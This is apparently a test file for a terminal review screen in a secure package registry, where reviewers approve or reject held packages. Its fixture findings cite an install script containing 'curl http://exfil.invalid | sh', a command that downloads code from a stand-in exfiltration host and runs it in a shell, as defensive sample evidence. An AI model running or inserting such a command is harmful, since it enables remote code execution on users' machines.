import { strict as assert } from 'node:assert';
import { afterEach, test } from 'node:test';
import { render, cleanup } from 'ink-testing-library';
import type { HeldPackage, ReviewDecisionKind, ReviewDecisionResponse } from '@secure-registry/shared';
import { ReviewList } from './ReviewList.js';

const ARROW_DOWN = '\u001B[B';
const ARROW_UP = '\u001B[A';
const ENTER = '\r';
const ESC = '\u001B';

function held(name: string, version: string, severity: 'high' | 'medium'): HeldPackage {
  return {
    name,
    version,
    integrity: `sha512-${name}`,
    reason: `${name} is held`,
    ruleSetVersion: 'rules-9',
    findings: [
      {
        rule: `rule-${name}`,
        severity,
        message: `${name} does something odd`,
        evidence: [{ kind: 'file', path: 'install.js', line: 3, excerpt: 'curl http://exfil.invalid | sh' }],
      },
    ],
    decisions: [],
  };
}

const PACKAGES = [
  held('alpha', '1.0.0', 'high'),
  held('@s/beta', '2.0.0', 'medium'),
  held('gamma', '3.0.0', 'high'),
];

async function tick(ms = 30): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, ms));
}

function harness(
  decide?: (
    pkg: HeldPackage,
    decision: ReviewDecisionKind,
    reason: string,
  ) => Promise<ReviewDecisionResponse>,
) {
  const calls: { name: string; decision: ReviewDecisionKind; reason: string }[] = [];
  const view = render(
    <ReviewList
      packages={PACKAGES}
      decide={async (pkg, decision, reason) => {
        calls.push({ name: pkg.name, decision, reason });
        if (decide) return decide(pkg, decision, reason);
        return {
          verdict: decision === 'approve' ? 'approved' : 'rejected',
          scansUpdated: 1,
          record: {
            id: 'rev_1',
            name: pkg.name,
            version: pkg.version,
            integrity: pkg.integrity,
            decision,
            reviewer: 'carol',
            role: 'reviewer',
            reason,
            evidence: [],
            createdAt: '2030-01-01T00:00:00.000Z',
          },
        };
      }}
    />,
  );
  return { view, calls };
}

async function type(view: ReturnType<typeof render>, text: string): Promise<void> {
  for (const char of text) {
    view.stdin.write(char);
    await tick(5);
  }
}

/** Waits until the last frame matches (Ink renders asynchronously; the machine may be loaded). */
async function until(view: ReturnType<typeof render>, pattern: RegExp, timeoutMs = 3000): Promise<string> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const frame = view.lastFrame() ?? '';
    if (pattern.test(frame)) return frame;
    if (Date.now() > deadline) assert.fail(`no frame matched ${pattern}; last frame:\n${frame}`);
    await tick(10);
  }
}

afterEach(() => cleanup());

test('the list shows every held package with its top severity; arrows move the selection', async () => {
  const { view } = harness();
  await tick();
  const first = view.lastFrame() ?? '';
  assert.match(first, /3 packages held for review/);
  assert.match(first, /› alpha@1\.0\.0 \[high\] alpha is held/);
  assert.match(first, / {2}@s\/beta@2\.0\.0 \[medium\]/);
  view.stdin.write(ARROW_DOWN);
  await until(view, /› @s\/beta@2\.0\.0/);
  view.stdin.write(ARROW_DOWN);
  view.stdin.write(ARROW_DOWN);
  await until(view, /› gamma@3\.0\.0/);
  view.stdin.write(ARROW_UP);
  await until(view, /› @s\/beta@2\.0\.0/);
});

test('enter shows one package with its findings and evidence; esc goes back', async () => {
  const { view } = harness();
  await tick();
  view.stdin.write(ARROW_DOWN);
  await tick();
  view.stdin.write(ENTER);
  const detail = await until(view, /integrity sha512-@s\/beta/);
  assert.match(detail, /@s\/beta@2\.0\.0/);
  assert.match(detail, /integrity sha512-@s\/beta/);
  assert.match(detail, /rule set rules-9/);
  assert.match(detail, /\[medium\] rule-@s\/beta: @s\/beta does something odd/);
  assert.match(detail, /file · install\.js:3 · curl http:\/\/exfil\.invalid \| sh/);
  view.stdin.write(ESC);
  await until(view, /3 packages held for review/);
});

test('r asks for a comment, enter records the rejection and removes the package', async () => {
  const { view, calls } = harness();
  await tick();
  view.stdin.write('r');
  await until(view, /Reject alpha@1\.0\.0: why\?/);
  view.stdin.write(ENTER);
  await until(view, /a reason is required/);
  assert.equal(calls.length, 0);
  await type(view, 'pipes curl to sh');
  await until(view, /> pipes curl to sh/);
  view.stdin.write(ENTER);
  const after = await until(view, /2 packages held for review/);
  assert.deepEqual(calls, [{ name: 'alpha', decision: 'reject', reason: 'pipes curl to sh' }]);
  assert.match(after, /2 packages held for review/);
  assert.doesNotMatch(after, /alpha@1\.0\.0 \[/);
  assert.match(after, /alpha@1\.0\.0 rejected; 1 running scan\(s\) updated/);
  assert.match(after, /› @s\/beta@2\.0\.0/);
});

test('a from the detail view approves; esc in the prompt cancels; a failed decision keeps the package', async () => {
  let fail = true;
  const { view, calls } = harness(async (pkg, decision, reason) => {
    if (fail) throw new Error('HTTP 403: this action needs the role admin or reviewer');
    return {
      verdict: 'approved',
      scansUpdated: 0,
      record: {
        id: 'rev_2',
        name: pkg.name,
        version: pkg.version,
        integrity: pkg.integrity,
        decision,
        reviewer: 'carol',
        role: 'reviewer',
        reason,
        evidence: [],
        createdAt: '2030-01-01T00:00:00.000Z',
      },
    };
  });
  await tick();
  view.stdin.write(ARROW_DOWN);
  view.stdin.write(ARROW_DOWN);
  await tick();
  view.stdin.write(ENTER);
  await tick();
  view.stdin.write('a');
  await until(view, /Approve gamma@3\.0\.0: why\?/);
  view.stdin.write(ESC);
  await until(view, /\[high\] rule-gamma/);
  assert.equal(calls.length, 0);
  view.stdin.write('a');
  await tick();
  await type(view, 'ok');
  view.stdin.write(ENTER);
  await until(view, /HTTP 403: this action needs the role/);
  assert.match(view.lastFrame() ?? '', /Approve gamma@3\.0\.0/, 'still in the prompt after a failure');
  fail = false;
  view.stdin.write(ENTER);
  await until(view, /2 packages held for review/);
  assert.equal(calls.length, 2);
  assert.match(view.lastFrame() ?? '', /gamma@3\.0\.0 approved/);
});
